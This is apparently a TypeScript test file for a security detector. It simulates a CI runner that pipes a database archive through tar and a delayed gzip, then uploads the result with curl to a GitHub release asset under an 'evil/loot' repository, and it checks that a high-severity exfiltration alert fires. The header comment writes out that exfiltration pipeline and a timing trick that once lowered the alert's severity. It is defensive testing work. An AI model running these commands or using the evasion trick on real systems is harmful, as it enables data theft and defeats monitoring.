/**
 * The pipeline rule of ../../../src/correlate/archive-extractions.ts (an extracting tar and a sibling both running
 * are a pipeline's stages: the archive's reads count) held for siblings exec'd within 1 s of each other only. A
 * pipeline's other stage may exec later while the tar waits on the full pipe, or the tar later while the other
 * stage waits for input: `TAR_OPTIONS=-O tar -xf db.tar | (read -t 3 x; exec gzip) > /tmp/d.gz`, then `curl -T` of
 * it, was medium where the same pipeline without the wait is high (found by review of the red team's fix).
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { brief, MiB, run, type Scenario } from './builder.js';
import { GITHUB_IP, runnerPod } from './runner-job.js';

const WORK = '/home/runner/_work/web/web';
const DB = '/srv/exports/db.tar';
const UPLOAD = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d';
const rules = (s: Scenario) =>
  brief(run(s.events.sort((a, b) => a.timeMs - b.timeMs)).alerts).map((a) => `${a.rule} ${a.severity} ${a.tool}`);

/** The shell running the pipeline, its tar and gzip exec'd in `order` 3 s apart; tar reads 180 MiB after both. */
function stagedThenUploaded(source: SensorSource, order: 'tar-first' | 'gzip-first'): string[] {
  const { s, c, worker } = runnerPod('web', source);
  const sh = s.exec(c, '/bin/sh', `-c "tar -xf ${DB} | (read -t 3 x; exec gzip) > /tmp/d.gz"`, { parent: worker });
  const stage = (binary: string, args: string) => s.exec(c, binary, args, { parent: sh, cwd: WORK });
  const first = order === 'tar-first' ? stage('/usr/bin/tar', `-xf ${DB}`) : stage('/usr/bin/gzip', '');
  s.wait(3_000);
  const second = order === 'tar-first' ? stage('/usr/bin/gzip', '') : stage('/usr/bin/tar', `-xf ${DB}`);
  const [tar, gzip] = order === 'tar-first' ? [first, second] : [second, first];
  for (let i = 0; i < 90; i++) s.read(tar, DB, 2 * MiB, { op: 'read' }).wait(20);
  s.exit(tar).exit(gzip).exit(sh);
  const curl = s.exec(c, '/usr/bin/curl', `-T /tmp/d.gz ${UPLOAD}`, { parent: worker, cwd: WORK });
  // gzip's reads of the pipe are none the sensors count; curl reads and sends the 30 MiB it wrote.
  s.read(curl, '/tmp/d.gz', 30 * MiB);
  s.connect(curl, GITHUB_IP, 443, { cookie: '7' });
  for (let i = 0; i < 15; i++) s.send(curl, GITHUB_IP, 443, 2 * MiB, { cookie: '7' });
  s.wait(300).exit(curl);
  return rules(s);
}

describe("an extracting tar and its pipeline's other stage exec'd seconds apart", () => {
  it.each<SensorSource>(['tetragon', 'falco'])('the other stage later: the archive counts (%s)', (source) => {
    expect(stagedThenUploaded(source, 'tar-first')).toEqual(['bulk-read-then-push high curl']);
  });

  it.each<SensorSource>(['tetragon', 'falco'])('the tar later: the archive counts (%s)', (source) => {
    expect(stagedThenUploaded(source, 'gzip-first')).toEqual(['bulk-read-then-push high curl']);
  });
});
